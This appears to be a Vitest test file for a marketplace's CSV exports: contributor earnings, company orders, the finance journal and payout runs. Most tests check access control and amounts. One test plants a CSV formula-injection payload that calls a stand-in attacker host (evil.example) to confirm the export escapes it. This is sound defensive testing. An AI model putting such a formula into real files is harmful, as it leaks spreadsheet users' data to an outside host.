import { randomUUID } from "node:crypto";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Viewer } from "../../db/viewer.ts";
import { earningsCsv } from "../../lib/ledger/earnings-csv.ts";
import { entryCount, journalCsv } from "../../lib/ledger/journal-csv.ts";
import { payoutRunCsv } from "../../lib/ledger/payout-run-csv.ts";
import { ordersCsv } from "../../lib/orders/orders-csv.ts";
import { yearQuery } from "../../lib/period.ts";
import { messages } from "../../messages/load.ts";
import { owedMicros } from "../market.ts";
import { canariesIn, canary, contributors, type Name, names } from "../people.ts";
import { openRoom, type Room } from "./room.ts";

let room: Room;
const thisYear = yearQuery.parse({ year: String(new Date().getUTCFullYear()) }).year;
const asked = { period: thisYear, part: 1 };
const titles = messages.en.csv.column;
const nobody: Viewer = { via: "nobody" };
const at = (name: Name) => room.people[name].viewer;
const rowsIn = (text: string) =>
  Papa.parse<Record<string, string>>(text.replace(/^\ufeff/, ""), { header: true, skipEmptyLines: true }).data;
/** Whose canaries are in it: "canary-title-dana" is dana's. */
const owners = (text: string) => [...new Set(canariesIn(text).map((one) => one.split("-").at(-1)))];
const earningsRate = 5_000n;

beforeAll(async () => {
  room = await openRoom();
  await room.plant(async (t) => {
    for (const name of contributors) {
      const subject = room.market.recordings[name];
      await t`insert into app.earnings ${t({
        id: subject,
        contributor_id: room.people[name].id,
        duration_seconds: 750,
        rate_micros_per_second: String(earningsRate),
        amount_micros: String(750n * earningsRate),
        journal_id: randomUUID(),
      })}`;
      const [journal] = await t`insert into app.journals (key, kind, subject, content_hash)
        values (${`out:${name}`}, 'payout-reserved', ${room.market.payouts[name]}, '\\x00') returning id`;
      await t`insert into app.entries (journal_id, line, account_id, amount_micros)
        values (${journal!.id}, 1, ${room.market.accounts[name]}, ${1_000_000})`;
    }
    await t`insert into app.orders ${t({
      organisation_id: room.market.organisations.ola,
      buyer_id: room.people.ola.id,
      version_id: room.market.version,
      state: "expired",
      price_cents: 1_234,
      po_number: canary("po", "ola"),
    })}`;
  });
});
afterAll(() => room.close());

describe("a contributor's statement", () => {
  it("is every line of their account, exact to the micro-dollar, and nobody else's", async () => {
    for (const name of contributors) {
      const file = await earningsCsv(at(name), asked, titles);
      expect(owners(file.text)).toEqual([name]);
      const rows = rowsIn(file.text);
      expect(rows).toMatchObject([
        {
          Entry: "base-pay",
          What: canary("title", name),
          Seconds: "750.000",
          Minutes: "12.50",
          "USD per minute": "0.300000",
          "Amount (USD)": "30.000000",
          Reference: room.market.recordings[name],
        },
        { Entry: "payout-reserved", "Amount (USD)": "-1.000000", State: "paid" },
      ]);
      for (const other of contributors.filter((one) => one !== name)) {
        expect(file.text).not.toContain(room.people[other].id);
        expect(file.text).not.toContain(room.market.payouts[other]);
      }
    }
    expect(owedMicros).toBe(30_000_000n);
  });

  it("is empty for who has no account, and outside of its year", async () => {
    for (const viewer of [nobody, ...(["ines", "rhea", "cyrus", "fiona", "piet"] as const).map(at)])
      expect(rowsIn((await earningsCsv(viewer, asked, titles)).text)).toEqual([]);
    const { year } = yearQuery.parse({ year: "2020" });
    expect(rowsIn((await earningsCsv(at("dana"), { period: year, part: 1 }, titles)).text)).toEqual([]);
    expect(rowsIn((await earningsCsv(at("dana"), { period: thisYear, part: 2 }, titles)).text)).toEqual([]);
  });

  it("does not believe a viewer who says to be another", async () => {
    const forged = { ...at("priya"), id: room.people.dana.id } as const;
    expect(rowsIn((await earningsCsv(forged, asked, titles)).text)).toEqual([]);
  });
});

describe("a company's orders", () => {
  it("are its own, with the licence that came of them", async () => {
    const ines = await ordersCsv(at("ines"), asked, titles);
    expect(owners(ines.text)).toEqual(["ines"]);
    expect(rowsIn(ines.text)).toMatchObject([
      { State: "paid", "Price (USD)": "9.00", Dataset: "Calls", Version: "1.0.0", "Licence ended": "" },
    ]);
    expect(rowsIn(ines.text)[0]!["Licensed since"]).toMatch(/^\d{4}-\d\d-\d\dT/);
    const ola = await ordersCsv(at("ola"), asked, titles);
    expect(owners(ola.text)).toEqual(["ola"]);
    expect(rowsIn(ola.text)).toMatchObject([{ State: "expired", "Price (USD)": "12.34", "Licensed since": "" }]);
    for (const viewer of [nobody, ...(["dana", "rhea", "cyrus", "piet"] as const).map(at)])
      expect(rowsIn((await ordersCsv(viewer, asked, titles)).text)).toEqual([]);
  });

  it("hold an order number that a spreadsheet does not run", async () => {
    const attack = '=HYPERLINK("https://evil.example?"&A1;"pay")';
    await room.plant((t) => t`update app.orders set po_number = ${attack} where buyer_id = ${room.people.ola.id}`);
    expect(rowsIn((await ordersCsv(at("ola"), asked, titles)).text)[0]!["Order number"]).toBe(`'${attack}`);
  });
});

describe("the desk's files", () => {
  it("are finance's: the whole journal, which sums to zero where nothing was planted on one side", async () => {
    const rows = rowsIn((await journalCsv(at("fiona"), asked, titles)).text);
    expect(rows).toHaveLength(await entryCount(at("fiona"), thisYear));
    expect(rows).toHaveLength(9); // two of base pay and the planted reservation, for each of three
    const micros = (amount: string) => BigInt(amount.replace(".", "") || "0");
    const sum = rows.reduce((total, row) => total + micros(row["Debit (USD)"]!) - micros(row["Credit (USD)"]!), 0n);
    expect(sum).toBe(3_000_000n);
  });

  it("give a contributor the lines of their own account alone, others nothing", async () => {
    for (const name of names) {
      const rows = rowsIn((await journalCsv(at(name), asked, titles)).text);
      if (name === "fiona") continue;
      const own = (contributors as readonly Name[]).includes(name) ? [`payable:${room.people[name].id}`] : [];
      expect([...new Set(rows.map((row) => row.Account))], name).toEqual(own);
    }
    expect(rowsIn((await journalCsv(nobody, asked, titles)).text)).toEqual([]);
  });

  it("hold a run's payouts for finance; for everybody else there is no such run", async () => {
    const run = { runId: room.market.run, part: 1 };
    const file = (await payoutRunCsv(at("fiona"), run, titles))!;
    expect(file.name).toBe(`consonant-payout-run-${room.market.run}.csv`);
    const rows = rowsIn(file.text);
    expect(rows.map((row) => row.Contributor).sort()).toEqual(contributors.map((name) => room.people[name].id).sort());
    expect(rows.every((row) => row["Amount (USD)"] === "1.00" && row.State === "paid")).toBe(true);
    for (const viewer of [nobody, ...names.filter((name) => name !== "fiona").map(at)])
      expect(await payoutRunCsv(viewer, run, titles)).toBeUndefined();
    expect(await payoutRunCsv(at("fiona"), { runId: randomUUID(), part: 1 }, titles)).toBeUndefined();
  });
});
